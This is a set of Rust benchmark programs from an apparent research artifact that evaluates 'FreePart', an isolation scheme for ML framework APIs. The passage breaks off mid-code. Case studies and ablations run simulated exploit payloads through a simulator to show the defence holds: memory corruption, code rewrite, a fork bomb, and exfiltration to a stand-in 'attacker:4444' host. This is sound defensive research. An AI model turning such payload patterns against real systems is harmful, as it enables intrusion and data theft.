use freepart_frameworks::registry::standard_registry;

fn main() {
    let mut t = Table::new(["API type", "Vulnerability class", "# CVEs", "bar"]);
    for cell in FIG7_CELLS {
        t.row([
            cell.api_type.to_string(),
            cell.class.to_string(),
            cell.count.to_string(),
            "#".repeat(cell.count as usize),
        ]);
    }
    t.print("Fig. 7 — 241 studied CVEs by API type × class (reconstruction)");
    println!("\nTotal: {} CVEs across:", total());
    for (fw, n) in FRAMEWORK_TOTALS {
        println!("  {fw}: {n}");
    }
    for ty in ApiType::ALL {
        println!("  per type {ty}: {}", per_type(ty));
    }

    // Our executable registry's own vulnerable-API distribution.
    let reg = standard_registry();
    println!("\nExecutable catalog's vulnerable APIs by type:");
    for ty in ApiType::ALL {
        let n = reg
            .vulnerable()
            .iter()
            .filter(|s| s.declared_type == ty)
            .count();
        println!("  {ty}: {n}");
    }
    println!(
        "\nTakeaway (paper §4.1): vulnerabilities exist across all four types, with\n\
         loading and processing dominating — motivating per-type isolation."
    );
}
