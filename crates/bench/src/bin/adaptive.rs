//! Adaptive policy-controller benchmark: the closed loop vs every
//! static preset, across adversarial workload mixes.
//!
//! Sweeps the four [`freepart_apps::mixes`] workloads — tiny chatty
//! calls, bulk frames, an interleaved mix, and a phase shift mid-run —
//! under each static preset (lazy, eager, shm, batched) and under
//! [`Policy::freepart_adaptive`], all through the same driver. Asserts,
//! in-binary:
//!
//! * every policy produces the byte-identical digest on every mix
//!   (knob choices are performance-only, never semantics);
//! * the controller matches or beats every static preset on every mix
//!   (no hand-tuning beats the closed loop);
//! * OMR end-to-end overhead under the adaptive policy stays ≤ 2.20%,
//!   the batched preset's hand-tuned figure.
//!
//! Results land in `BENCH_adaptive.json` at the repo root (hand-rolled
//! JSON; the suite carries no serde). Regenerate with:
//!
//! ```text
//! cargo run --release -p freepart-bench --bin adaptive
//! ```

use freepart::Policy;
use freepart_apps::mixes::{run_mix, standard_mixes, Mix, MixResult};
use freepart_apps::{batched, omr};
use freepart_baselines::{build, SchemeKind};
use freepart_bench::experiments::omr_workload;
use freepart_bench::fmt::pct;
use freepart_bench::{fast_install, workspace_root, Table};
use freepart_frameworks::registry::standard_registry;

/// One policy × mix measurement.
struct Run {
    policy: &'static str,
    time_ns: u64,
    ipc: u64,
    transfer_bytes: u64,
    decisions: usize,
}

/// A named policy-preset constructor.
type PresetFn = fn() -> Policy;

/// The static presets the controller must match or beat, plus the
/// controller itself (always last).
const POLICIES: [(&str, PresetFn); 5] = [
    ("lazy", Policy::freepart),
    ("eager", Policy::without_ldc),
    ("shm", Policy::freepart_shm),
    ("batched", Policy::freepart_batched),
    ("adaptive", Policy::freepart_adaptive),
];

fn measure(mix: &Mix, name: &'static str, policy: Policy) -> (Run, MixResult) {
    let adaptive = policy.adaptive.is_some();
    let mut rt = fast_install(policy);
    rt.kernel.reset_accounting();
    let result = run_mix(&mut rt, mix);
    assert!(result.errors.is_empty(), "{}: benign mix errored", mix.name);
    assert!(result.completed > 0, "{}: mix must actually run", mix.name);
    let decisions = if adaptive {
        let d = rt.tracer().policy_decisions();
        assert!(!d.is_empty(), "{}: no decision points reached", mix.name);
        d.len()
    } else {
        0
    };
    let m = rt.kernel.metrics();
    (
        Run {
            policy: name,
            time_ns: rt.kernel.clock().now_ns(),
            ipc: m.ipc_messages,
            transfer_bytes: m.total_transfer_bytes(),
            decisions,
        },
        result,
    )
}

/// End-to-end OMR overhead of the adaptive policy vs the monolithic
/// original — the headline number the batched preset hand-tuned to
/// 2.20%.
fn omr_overhead() -> (u64, u64, f64) {
    let reg = standard_registry();
    let mut surface = build(
        SchemeKind::Original,
        standard_registry(),
        &omr::omr_universe(&reg),
    );
    surface.kernel_mut().reset_accounting();
    let r = omr::run(surface.as_mut(), &omr_workload());
    assert!(r.completed > 0, "workload must actually run");
    let original_ns = surface.kernel().clock().now_ns();

    let mut rt = fast_install(Policy::freepart_adaptive());
    rt.kernel.reset_accounting();
    let r = batched::run_omr_batched(&mut rt, &omr_workload());
    assert!(r.completed > 0 && r.errors.is_empty(), "benign OMR errored");
    let adaptive_ns = rt.kernel.clock().now_ns();

    let overhead = adaptive_ns as f64 / original_ns.max(1) as f64 - 1.0;
    (original_ns, adaptive_ns, overhead)
}

fn json_digest(d: &[f64]) -> String {
    let cells: Vec<String> = d.iter().map(|v| format!("{v}")).collect();
    format!("[{}]", cells.join(", "))
}

fn main() {
    let mut table = Table::new(["Mix", "Policy", "Time (ms)", "IPC", "Bytes", "Decisions"]);
    let mut json = String::from("{\n  \"mixes\": [\n");
    let mixes = standard_mixes();
    for (mi, mix) in mixes.iter().enumerate() {
        let mut runs = Vec::new();
        let mut reference: Option<MixResult> = None;
        for (name, policy) in POLICIES {
            let (run, result) = measure(mix, name, policy());
            match &reference {
                None => reference = Some(result),
                Some(want) => assert_eq!(
                    &result, want,
                    "{}: {} digest diverged from the lazy reference",
                    mix.name, name
                ),
            }
            runs.push(run);
        }

        // The controller must match or beat every static preset.
        let adaptive = runs.last().expect("adaptive runs last");
        for r in &runs[..runs.len() - 1] {
            assert!(
                adaptive.time_ns <= r.time_ns,
                "{}: adaptive regressed vs {}: {} ns vs {} ns",
                mix.name,
                r.policy,
                adaptive.time_ns,
                r.time_ns
            );
        }

        for r in &runs {
            table.row([
                mix.name.to_owned(),
                r.policy.to_owned(),
                format!("{:.3}", r.time_ns as f64 / 1e6),
                r.ipc.to_string(),
                r.transfer_bytes.to_string(),
                r.decisions.to_string(),
            ]);
        }
        json.push_str(&format!("    {{\"mix\": \"{}\", \"runs\": [\n", mix.name));
        for (i, r) in runs.iter().enumerate() {
            json.push_str(&format!(
                "      {{\"policy\": \"{}\", \"time_ns\": {}, \"ipc\": {}, \
                 \"transfer_bytes\": {}, \"decisions\": {}}}{}\n",
                r.policy,
                r.time_ns,
                r.ipc,
                r.transfer_bytes,
                r.decisions,
                if i + 1 == runs.len() { "" } else { "," }
            ));
        }
        let digest = reference.expect("reference recorded");
        json.push_str(&format!(
            "    ], \"digest\": {}}}{}\n",
            json_digest(&digest.digest),
            if mi + 1 == mixes.len() { "" } else { "," }
        ));
    }
    table.print("Adaptive controller vs static presets (virtual time)");

    let (original_ns, adaptive_ns, overhead) = omr_overhead();
    assert!(
        overhead <= 0.022,
        "adaptive OMR overhead {overhead:.4} above the 2.20% bar"
    );
    println!(
        "\nOMR overhead check: {adaptive_ns} ns adaptive vs {original_ns} ns original \
         = {} (<= 2.20%) ✓",
        pct(overhead)
    );

    json.push_str(&format!(
        "  ],\n  \"omr\": {{\"original_ns\": {original_ns}, \"adaptive_ns\": {adaptive_ns}, \
         \"overhead\": {overhead:.6}}}\n}}\n"
    ));
    let out = workspace_root().join("BENCH_adaptive.json");
    std::fs::write(&out, &json).expect("write BENCH_adaptive.json");
    println!("wrote {}", out.display());
}
