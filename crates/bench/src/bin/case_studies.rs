//! Regenerates the **§5.4 and §A.7 case studies**: the autonomous
//! drone, the MComix3 viewer leak, and the StegoNet trojan model — each
//! run unprotected and under FreePart.

use freepart::{Policy, Runtime};
use freepart_apps::{drone, mcomix, stegonet};
use freepart_attacks::{judge, payloads, AttackGoal};
use freepart_baselines::{ApiSurface, MonolithicRuntime};
use freepart_frameworks::registry::standard_registry;

fn main() {
    // ---------------- §5.4.1 drone ----------------
    println!("\n== §5.4.1 Autonomous object-tracking drone ==");
    let dos = |surface: &mut dyn ApiSurface| {
        let cfg = drone::DroneConfig {
            frames: 6,
            evil_frame: Some((2, payloads::dos("CVE-2017-14136"))),
        };
        drone::run(surface, &cfg)
    };
    let mut orig = MonolithicRuntime::original(standard_registry());
    let r = dos(&mut orig);
    println!(
        "unprotected: control loop alive = {} (drone falls out of the sky), frames {}/{}",
        r.control_loop_alive, r.frames_processed, 6
    );
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    let r = dos(&mut fp);
    println!(
        "FreePart:    control loop alive = {} (only the poisoned frame lost), frames {}/{}",
        r.control_loop_alive, r.frames_processed, 6
    );
    assert!(r.control_loop_alive);

    // Speed corruption.
    let probe_addr = {
        let mut p = Runtime::install(standard_registry(), Policy::freepart());
        let r = drone::run(
            &mut p,
            &drone::DroneConfig {
                frames: 0,
                evil_frame: None,
            },
        );
        p.objects.meta(r.speed).unwrap().buffer.unwrap().0
    };
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    let cfg = drone::DroneConfig {
        frames: 4,
        evil_frame: Some((
            1,
            payloads::corrupt(
                "CVE-2017-12606",
                probe_addr.0,
                (-0.3f64).to_le_bytes().to_vec(),
            ),
        )),
    };
    let r = drone::run(&mut fp, &cfg);
    println!(
        "FreePart vs speed corruption: all steering commands positive = {} (paper: \
         self.speed protected in the target process)",
        r.commands.iter().all(|c| *c > 0.0)
    );

    // ---------------- §5.4.2 MComix3 ----------------
    println!("\n== §5.4.2 MComix3 information leak ==");
    let files = vec![
        "/home/u/private-scan.png".to_owned(),
        "/home/u/tax-return.png".to_owned(),
    ];
    let addr = {
        let mut p = Runtime::install(standard_registry(), Policy::freepart());
        let r = mcomix::run(
            &mut p,
            &mcomix::ViewerConfig {
                files: files.clone(),
                evil_at: None,
            },
        );
        p.objects.meta(r.recent).unwrap().buffer.unwrap().0
    };
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    mcomix::run(
        &mut fp,
        &mcomix::ViewerConfig {
            files,
            evil_at: Some((
                0,
                payloads::exfiltrate("CVE-2020-10378", addr.0, 30, "attacker:4444"),
            )),
        },
    );
    let log = fp.exploit_log.clone();
    let (kernel, objects, host) = fp.attack_view();
    let v = judge(
        &AttackGoal::Exfiltrate {
            marker: b"private-scan".to_vec(),
        },
        kernel,
        objects,
        host,
        &log,
    );
    println!("recent-file-name leak under FreePart: {v:?} (paper: prevented twice over)");

    // ---------------- §A.7 StegoNet ----------------
    println!("\n== §A.7 StegoNet trojan model ==");
    let cfg = stegonet::StegoConfig {
        app: stegonet::StegoApp::MedicalCt,
        inputs: 2,
        trojan: Some(payloads::stegonet_fork_bomb("CVE-2022-45907")),
    };
    let mut orig = MonolithicRuntime::original(standard_registry());
    stegonet::run(&mut orig, &cfg);
    let orig_bomb = orig.exploit_log().last().unwrap().outcome.achieved();
    // Warm FreePart's loading agent so its filter is sealed.
    let mut fp = Runtime::install(standard_registry(), Policy::freepart());
    fp.kernel.fs.put(
        "/models/warm.stsr",
        freepart_frameworks::fileio::encode_tensor(
            &freepart_frameworks::tensor::Tensor::generate(&[4], |_| 0.0),
            None,
        ),
    );
    fp.call(
        "torch.load",
        &[freepart_frameworks::Value::from("/models/warm.stsr")],
    )
    .unwrap();
    stegonet::run(&mut fp, &cfg);
    let fp_bomb = fp.exploit_log.last().unwrap().outcome.achieved();
    println!("fork bomb detonates unprotected: {orig_bomb}; under FreePart: {fp_bomb}");
    println!("(paper: no data-processing API needs fork(), so the filter kills it)");
    assert!(orig_bomb && !fp_bomb);
}
