//! Ablation study over FreePart's design choices (DESIGN.md §5):
//! Lazy Data Copy, syscall restriction, temporal protection, restart,
//! and type-neutral co-location — measuring both the performance and the
//! security consequence of turning each off.

use freepart::{Policy, RestartPolicy, Runtime, SandboxLevel};
use freepart_apps::omr::{self, OmrConfig};
use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
use freepart_baselines::ApiSurface;
use freepart_bench::Table;
use freepart_frameworks::registry::standard_registry;

struct Ablation {
    name: &'static str,
    policy: fn() -> Policy,
}

fn time_of(policy: Policy) -> u64 {
    let mut rt = Runtime::install(standard_registry(), policy);
    rt.kernel.reset_accounting();
    omr::run(&mut rt, &OmrConfig::benign(12));
    rt.kernel.clock().now_ns()
}

/// Micro-workload exercising type-neutral co-location: `imread →
/// cvtColor → imwrite` per cycle. Co-located, `cvtColor` runs in the
/// loading agent (one move, loading→storing); pinned to the processing
/// agent it forces an extra hop per cycle.
fn neutral_moves(policy: Policy) -> u64 {
    use freepart_frameworks::{fileio, image::Image, Value};
    let mut rt = Runtime::install(standard_registry(), policy);
    rt.kernel.fs.put(
        "/n.simg",
        fileio::encode_image(&Image::new(16, 16, 3), None),
    );
    rt.kernel.reset_accounting();
    for i in 0..50 {
        let img = rt.call("cv2.imread", &[Value::from("/n.simg")]).unwrap();
        let gray = rt.call("cv2.cvtColor", &[img]).unwrap();
        rt.call("cv2.imwrite", &[Value::Str(format!("/o{i}.simg")), gray])
            .unwrap();
    }
    rt.stats().ldc_copies + rt.stats().host_copies
}

/// The temporal-protection-specific corruption: a *processing-stage*
/// exploit (CVE-2019-14491 riding tainted pixels into detectMultiScale)
/// overwrites a loading-stage object that has migrated into the very
/// same processing agent. Only the read-only page stops this write —
/// address-space isolation cannot (same process).
fn m2_temporal_prevented(policy: Policy) -> bool {
    use freepart_frameworks::{fileio, image::Image, Value};
    let drive = |policy: Policy,
                 payload: Option<freepart_frameworks::ExploitPayload>|
     -> (Runtime, freepart_frameworks::ObjectId, Vec<u8>) {
        let mut rt = Runtime::install(standard_registry(), policy);
        let img = Image::new(32, 32, 3);
        rt.kernel
            .fs
            .put("/m2.simg", fileio::encode_image(&img, payload.as_ref()));
        rt.kernel.fs.put("/c.xml", vec![1; 8]);
        let loaded = rt.call("cv2.imread", &[Value::from("/m2.simg")]).unwrap();
        let gray = rt.call("cv2.cvtColor", &[loaded]).unwrap();
        let gray_id = gray.as_obj().unwrap();
        // Processing begins: gray migrates into the processing agent and
        // (with temporal protection) locks.
        let blurred = rt
            .call("cv2.GaussianBlur", std::slice::from_ref(&gray))
            .unwrap();
        let clf = rt
            .call("cv2.CascadeClassifier.load", &[Value::from("/c.xml")])
            .unwrap();
        let _ = rt.call("cv2.CascadeClassifier.detectMultiScale", &[clf, blurred]);
        let original = rt
            .objects
            .read_bytes(&mut rt.kernel, gray_id)
            .unwrap_or_default();
        (rt, gray_id, original)
    };
    // Probe: learn the gray object's post-migration address + contents.
    let (probe, gray_id, original) = drive(policy.clone(), None);
    let addr = probe.objects.meta(gray_id).unwrap().buffer.unwrap().0;
    // Attack: same pipeline, tainted input, write targets gray in the
    // processing agent.
    let payload = payloads::corrupt("CVE-2019-14491", addr.0, vec![0xAB; 16]);
    let (mut rt, gray_id, _) = drive(policy, Some(payload));
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    judge(
        &AttackGoal::CorruptObject {
            id: gray_id,
            original,
        },
        kernel,
        objects,
        host,
        &log,
    ) == Verdict::Prevented
}

/// Is the M attack (corrupt template) still prevented under `policy`?
fn m_prevented(policy: Policy) -> bool {
    let addr = {
        let mut probe = Runtime::install(standard_registry(), policy.clone());
        let r = omr::run(&mut probe, &OmrConfig::benign(0));
        probe.objects.meta(r.template).unwrap().buffer.unwrap().0
    };
    let mut rt = Runtime::install(standard_registry(), policy);
    let cfg = OmrConfig {
        samples: 2,
        boxes_per_sample: 2,
        evil_sample: Some((0, payloads::corrupt("CVE-2017-12597", addr.0, vec![9; 16]))),
        evil_imshow: None,
    };
    let r = omr::run(&mut rt, &cfg);
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    judge(
        &AttackGoal::CorruptObject {
            id: r.template,
            original: r.template_original,
        },
        kernel,
        objects,
        host,
        &log,
    ) == Verdict::Prevented
}

/// Is the code-rewrite attack still prevented under `policy`?
fn c_prevented(policy: Policy) -> bool {
    let mut rt = Runtime::install(standard_registry(), policy);
    omr::run(&mut rt, &OmrConfig::benign(1));
    let code = rt.code_target();
    let cfg = OmrConfig {
        samples: 2,
        boxes_per_sample: 2,
        evil_sample: Some((0, payloads::code_rewrite("CVE-2017-17760", code))),
        evil_imshow: None,
    };
    omr::run(&mut rt, &cfg);
    let log = rt.exploit_log.clone();
    let (kernel, objects, host) = rt.attack_view();
    judge(&AttackGoal::RewriteCode, kernel, objects, host, &log) == Verdict::Prevented
}

/// How many submissions complete under a mid-batch DoS?
fn dos_completed(policy: Policy) -> u32 {
    let mut rt = Runtime::install(standard_registry(), policy);
    let cfg = OmrConfig {
        samples: 6,
        boxes_per_sample: 2,
        evil_sample: Some((2, payloads::dos("CVE-2017-14136"))),
        evil_imshow: None,
    };
    omr::run(&mut rt, &cfg).completed
}

fn main() {
    let ablations: [Ablation; 5] = [
        Ablation {
            name: "full FreePart",
            policy: Policy::freepart,
        },
        Ablation {
            name: "without LDC",
            policy: Policy::without_ldc,
        },
        Ablation {
            name: "without syscall restriction",
            policy: || Policy {
                sandbox: SandboxLevel::None,
                ..Policy::freepart()
            },
        },
        Ablation {
            name: "without temporal protection",
            policy: || Policy {
                temporal_protection: false,
                ..Policy::freepart()
            },
        },
        Ablation {
            name: "without restart",
            policy: || Policy {
                restart: RestartPolicy::StayDown,
                ..Policy::freepart()
            },
        },
    ];
    let base = time_of(Policy::freepart());
    let mut t = Table::new([
        "Configuration",
        "runtime vs full",
        "M (cross-process)",
        "M (in-agent, temporal)",
        "C prevented",
        "DoS: graded/6",
    ]);
    for a in &ablations {
        let time = time_of((a.policy)());
        t.row([
            a.name.to_owned(),
            format!("{:+.2}%", (time as f64 / base as f64 - 1.0) * 100.0),
            m_prevented((a.policy)()).to_string(),
            m2_temporal_prevented((a.policy)()).to_string(),
            c_prevented((a.policy)()).to_string(),
            format!("{}/6", dos_completed((a.policy)())),
        ]);
    }
    t.print("Ablations — what each FreePart mechanism buys");

    // Type-neutral co-location: object-move delta on a load→convert→
    // store cycle.
    let with = neutral_moves(Policy::freepart());
    let without = neutral_moves(Policy {
        colocate_type_neutral: false,
        ..Policy::freepart()
    });
    println!(
        "\nType-neutral co-location (50x imread→cvtColor→imwrite): {with} object\n\
         moves with co-location vs {without} without ({:+.1}% more cross-process\n\
         traffic when cvtColor is pinned to the processing agent instead of\n\
         following its call context — the paper's §4.2 rationale).",
        (without as f64 / with as f64 - 1.0) * 100.0
    );

    println!(
        "\nReading: temporal protection is what prevents M (the write lands on a\n\
         read-only page even inside the attacked agent's own address space if the\n\
         object migrated there); syscall restriction is what prevents C; restart is\n\
         what keeps the batch completing through a DoS (5/6 vs 2/6)."
    );
}
