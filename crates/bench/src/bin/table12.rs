//! Regenerates **Table 12** (appendix A.5): lazy vs non-lazy data-copy
//! operations per application under FreePart.

use freepart_bench::{fig13_sweep, Table};

fn main() {
    let rows = fig13_sweep();
    let mut t = Table::new(["Application", "Lazy copies", "Non-lazy copies", "Lazy %"]);
    let (mut lazy_total, mut nonlazy_total) = (0u64, 0u64);
    for r in &rows {
        lazy_total += r.ldc_copies;
        nonlazy_total += r.host_copies;
        let pct = 100.0 * r.ldc_copies as f64 / (r.ldc_copies + r.host_copies).max(1) as f64;
        t.row([
            r.name.to_owned(),
            r.ldc_copies.to_string(),
            r.host_copies.to_string(),
            format!("{pct:.1}%"),
        ]);
    }
    let pct = 100.0 * lazy_total as f64 / (lazy_total + nonlazy_total).max(1) as f64;
    t.row([
        "Total".to_owned(),
        lazy_total.to_string(),
        nonlazy_total.to_string(),
        format!("{pct:.1}%"),
    ]);
    t.print("Table 12 — Lazy vs non-lazy copy operations (measured)");
    println!("\nPaper (Table 12): 1,170,660 lazy vs 82,789 non-lazy = 95.08% lazy.");
}
