//! Multi-tenant **pooled serving** benchmark.
//!
//! Serves N identical image pipelines (N ∈ {10, 100, 1000}) two ways
//! against the same registry and workload:
//!
//! * **pooled** — `Policy::freepart_pooled()`: all tenants share the
//!   four `part0..part3` agent processes behind deficit-round-robin
//!   run queues (4 + N processes).
//! * **per-thread baseline** — the paper's §6 deployment: each pipeline
//!   spawns its own agent set (5N processes).
//!
//! Reported per scale: process census, aggregate throughput over
//! virtual time (admission + sealing costs included — that is the
//! baseline's bill), per-call latency percentiles, and real wall-clock
//! cost per call (the O(1)-in-tenants claim: sub-linear 10 → 1000).
//! Two scenario sections follow: a chatty-tenant flood (DRR bounds the
//! victim's wait by the quantum window; FIFO would charge it the whole
//! flood) and a cross-tenant leak attempt (denied before a byte moves,
//! audited, and the verdict re-derived from a digest-identical
//! commit-log replay alone).
//!
//! Results land in `BENCH_multitenant.json` at the repo root
//! (hand-rolled JSON; the suite carries no serde) and as tables on
//! stdout. Regenerate with:
//!
//! ```text
//! cargo run --release -p freepart-bench --bin multitenant
//! ```

use freepart::{CallError, Policy, TenantId};
use freepart_apps::tenants::{
    chain_len, run_chain_on, run_chain_pooled, run_chains_interleaved, stage_input,
};
use freepart_bench::{fast_install, workspace_root, Table};
use freepart_frameworks::Value;
use freepart_simos::replay::replay;
use freepart_simos::CommitOp;

/// One deployment's measurements at one tenant count.
struct Side {
    /// Total kernel process census after serving.
    procs: usize,
    /// Hooked calls served.
    calls: u64,
    /// Virtual makespan, admission through last call.
    virtual_ns: u64,
    /// Aggregate throughput: calls per virtual second.
    throughput_cps: f64,
    /// Real wall-clock nanoseconds per call (serving section only).
    wall_ns_per_call: f64,
}

/// One scale row: pooled vs per-thread baseline at `tenants`.
struct Scale {
    tenants: usize,
    /// Shared agents in the pooled deployment (the "4" of 4 + N).
    pooled_agents: usize,
    pooled: Side,
    /// Pooled per-call latency percentiles (enqueue → retirement,
    /// virtual ns) across every tenant.
    p50_ns: u64,
    p99_ns: u64,
    baseline: Side,
}

fn percentile(sorted: &[u64], p: f64) -> u64 {
    if sorted.is_empty() {
        return 0;
    }
    let idx = ((sorted.len() as f64 - 1.0) * p).round() as usize;
    sorted[idx.min(sorted.len() - 1)]
}

/// Serves `n` pipelines through the shared pools and measures the run.
/// Returns the row's pooled side plus each tenant's final result (the
/// transparency spot-check compares them against the baseline's).
fn run_pooled(n: usize) -> (usize, Side, u64, u64, Vec<Value>) {
    let mut rt = fast_install(Policy::freepart_pooled());
    let start_ns = rt.kernel.now_ns();
    let wall = std::time::Instant::now();
    let tenants: Vec<TenantId> = (0..n).map(|_| rt.spawn_tenant()).collect();
    let paths: Vec<String> = tenants.iter().map(|t| stage_input(&mut rt, t.0)).collect();
    let results = run_chains_interleaved(&mut rt, &tenants, &paths).expect("pooled serve");
    let wall_ns = wall.elapsed().as_nanos() as f64;
    let calls = (n * chain_len()) as u64;
    let virtual_ns = rt.kernel.now_ns() - start_ns;
    let mut lats: Vec<u64> = tenants
        .iter()
        .flat_map(|t| rt.tenant_latencies(*t).iter().copied())
        .collect();
    lats.sort_unstable();
    let (agents, tenant_procs) = rt.pooled_process_count();
    assert_eq!(tenant_procs, n, "one pipeline process per tenant");
    let side = Side {
        procs: rt.kernel.process_count(),
        calls,
        virtual_ns,
        throughput_cps: calls as f64 / (virtual_ns as f64 / 1e9).max(1e-12),
        wall_ns_per_call: wall_ns / calls as f64,
    };
    (
        agents,
        side,
        percentile(&lats, 0.50),
        percentile(&lats, 0.99),
        results,
    )
}

/// Serves `n` pipelines the per-thread way (own agent set each) and
/// measures the run. Returns the side plus each pipeline's final
/// result.
fn run_baseline(n: usize) -> (Side, Vec<Value>) {
    let mut rt = fast_install(Policy::default());
    let start_ns = rt.kernel.now_ns();
    let wall = std::time::Instant::now();
    let mut results = Vec::with_capacity(n);
    for _ in 0..n {
        let thread = rt.spawn_thread();
        let path = stage_input(&mut rt, thread.0);
        let out = run_chain_on(&mut rt, thread, &path).expect("baseline serve");
        results.push(out.rects);
    }
    let wall_ns = wall.elapsed().as_nanos() as f64;
    let calls = (n * chain_len()) as u64;
    let virtual_ns = rt.kernel.now_ns() - start_ns;
    let side = Side {
        procs: rt.kernel.process_count(),
        calls,
        virtual_ns,
        throughput_cps: calls as f64 / (virtual_ns as f64 / 1e9).max(1e-12),
        wall_ns_per_call: wall_ns / calls as f64,
    };
    (side, results)
}

/// The chatty-tenant scenario: one tenant floods a pool with `flood`
/// queued loads before a victim submits one. Returns
/// `(victim_foreign_served, drr_window_bound, flood)` — DRR must serve
/// the victim within the quantum window; FIFO would make it wait out
/// the whole flood.
fn run_fairness(flood: usize) -> (u64, u64, usize) {
    let policy = Policy::freepart_pooled();
    let quantum = policy.pooled.as_ref().expect("pooled preset").quantum;
    let mut rt = fast_install(policy);
    let chatty = rt.spawn_tenant();
    let victim = rt.spawn_tenant();
    let chatty_path = stage_input(&mut rt, 0);
    let victim_path = stage_input(&mut rt, 1);
    for _ in 0..flood {
        rt.tenant_submit(chatty, "cv2.imread", &[Value::from(chatty_path.as_str())])
            .expect("submit");
    }
    let h = rt
        .tenant_submit(victim, "cv2.imread", &[Value::from(victim_path.as_str())])
        .expect("submit");
    rt.pump_all();
    let (foreign, own_ahead) = rt.ticket_fairness(h).expect("victim ticket pumped");
    assert_eq!(own_ahead, 0, "victim queued exactly one item");
    // Two tenants on the pool: one full DRR rotation serves the victim,
    // so at most (tenants on pool) * quantum foreign items cut in line
    // (× 2 slack for the partially-consumed head visit).
    let bound = 2 * quantum * 2;
    (foreign, bound, flood)
}

/// The cross-tenant leak attempt, recorded end to end. Returns the JSON
/// fragment's fields: denied, audited, replay digest match, and the
/// grant counts that re-derive the verdict from the log alone.
struct Leak {
    denied: bool,
    audited: bool,
    replay_clean: bool,
    digest_match: bool,
    /// `ShmGrant` commits naming the attacker's pipeline process.
    attacker_grants_in_log: usize,
    /// `ShmGrant` commits naming the victim's pipeline process.
    victim_grants_in_log: usize,
    denials_audited: u64,
}

fn run_leak() -> Leak {
    // Record commits and force the payloads onto shared segments — the
    // transport a leak would actually ride.
    let policy = Policy {
        record_commits: true,
        shm_threshold: Some(64),
        ..Policy::freepart_pooled()
    };
    let mut rt = fast_install(policy);
    rt.enable_tracing();
    let victim = rt.spawn_tenant();
    let attacker = rt.spawn_tenant();
    let victim_path = stage_input(&mut rt, 0);
    let attacker_path = stage_input(&mut rt, 1);
    let out = run_chain_pooled(&mut rt, victim, &victim_path).expect("victim pipeline");
    // The attacker runs its own legitimate pipeline…
    run_chain_pooled(&mut rt, attacker, &attacker_path).expect("attacker pipeline");
    // …then reaches for the victim's frame — specifically the object
    // that rode the shared-memory transport (imread's output, promoted
    // to a segment when the blur moved it loading → processing), the
    // exact surface a leak would exploit.
    let img = rt
        .call_tenant(victim, "cv2.imread", &[Value::from(victim_path.as_str())])
        .expect("reload");
    let victim_obj = img.as_obj().expect("object result");
    rt.call_tenant(victim, "cv2.GaussianBlur", &[img])
        .expect("blur");
    // The victim reads its own frame through a granted view (this is
    // the grant the attacker never gets)…
    rt.tenant_fetch(victim, victim_obj)
        .expect("owner reads its own frame");
    // …and the attacker's identical fetch dies at the capability gate.
    let steal = rt.tenant_fetch(attacker, victim_obj);
    let denied = matches!(steal, Err(CallError::TenantDenied { .. }));
    let audited = rt
        .tracer()
        .audit_log()
        .iter()
        .any(|r| matches!(r, freepart::AuditRecord::CrossTenantDenied { .. }));
    let denials_audited = rt.stats().tenant_denials;
    assert!(!out.bytes.is_empty(), "victim saw its own payload");

    // The verdict, re-derived from the commit log alone: replay is
    // digest-identical, and no ShmGrant in the whole recorded history
    // ever named the attacker's process.
    let attacker_pid = rt.tenant_pid(attacker).expect("attacker admitted");
    let victim_pid = rt.tenant_pid(victim).expect("victim admitted");
    let live_digest = rt.kernel.state_digest();
    let log = rt.kernel.take_commit_log().expect("recording was on");
    let (rebuilt, report) = replay(&log);
    let grants_of = |pid| {
        log.records()
            .iter()
            .filter(|rec| matches!(rec.op, CommitOp::ShmGrant { pid: p, .. } if p == pid))
            .count()
    };
    Leak {
        denied,
        audited,
        replay_clean: report.is_clean(),
        digest_match: rebuilt.state_digest() == live_digest,
        attacker_grants_in_log: grants_of(attacker_pid),
        victim_grants_in_log: grants_of(victim_pid),
        denials_audited,
    }
}

fn to_json(rows: &[Scale], fairness: (u64, u64, usize), leak: &Leak) -> String {
    let mut out = String::from("{\n  \"scales\": [\n");
    for (i, r) in rows.iter().enumerate() {
        let side = |s: &Side| {
            format!(
                "{{\"procs\": {}, \"calls\": {}, \"virtual_ns\": {}, \
                 \"throughput_cps\": {:.1}, \"wall_ns_per_call\": {:.1}}}",
                s.procs, s.calls, s.virtual_ns, s.throughput_cps, s.wall_ns_per_call
            )
        };
        out.push_str(&format!(
            "    {{\"tenants\": {}, \"pooled_agents\": {}, \"p50_ns\": {}, \
             \"p99_ns\": {},\n     \"pooled\": {},\n     \"baseline\": {}}}{}\n",
            r.tenants,
            r.pooled_agents,
            r.p50_ns,
            r.p99_ns,
            side(&r.pooled),
            side(&r.baseline),
            if i + 1 < rows.len() { "," } else { "" }
        ));
    }
    let (foreign, bound, flood) = fairness;
    out.push_str(&format!(
        "  ],\n  \"fairness\": {{\"flood\": {flood}, \"victim_foreign_served\": {foreign}, \
         \"drr_bound\": {bound}, \"fifo_wait_would_be\": {flood}}},\n"
    ));
    out.push_str(&format!(
        "  \"leak\": {{\"denied\": {}, \"audited\": {}, \"denials_audited\": {}, \
         \"replay_clean\": {}, \"digest_match\": {}, \
         \"attacker_grants_in_log\": {}, \"victim_grants_in_log\": {}}}\n}}\n",
        leak.denied,
        leak.audited,
        leak.denials_audited,
        leak.replay_clean,
        leak.digest_match,
        leak.attacker_grants_in_log,
        leak.victim_grants_in_log
    ));
    out
}

fn main() {
    let mut rows = Vec::new();
    for &n in &[10usize, 100, 1000] {
        let (pooled_agents, pooled, p50_ns, p99_ns, pooled_results) = run_pooled(n);
        let (baseline, base_results) = run_baseline(n);
        // Transparency spot-check: pooling must not change a single
        // tenant's detector output.
        assert_eq!(
            pooled_results, base_results,
            "pooled outputs diverged from per-thread baseline at N={n}"
        );
        rows.push(Scale {
            tenants: n,
            pooled_agents,
            pooled,
            p50_ns,
            p99_ns,
            baseline,
        });
    }

    let mut table = Table::new([
        "Tenants",
        "Procs (pooled)",
        "Procs (5N)",
        "Thru pooled (c/s)",
        "Thru 5N (c/s)",
        "p50 (µs)",
        "p99 (µs)",
        "Wall ns/call",
    ]);
    for r in &rows {
        table.row([
            r.tenants.to_string(),
            r.pooled.procs.to_string(),
            r.baseline.procs.to_string(),
            format!("{:.0}", r.pooled.throughput_cps),
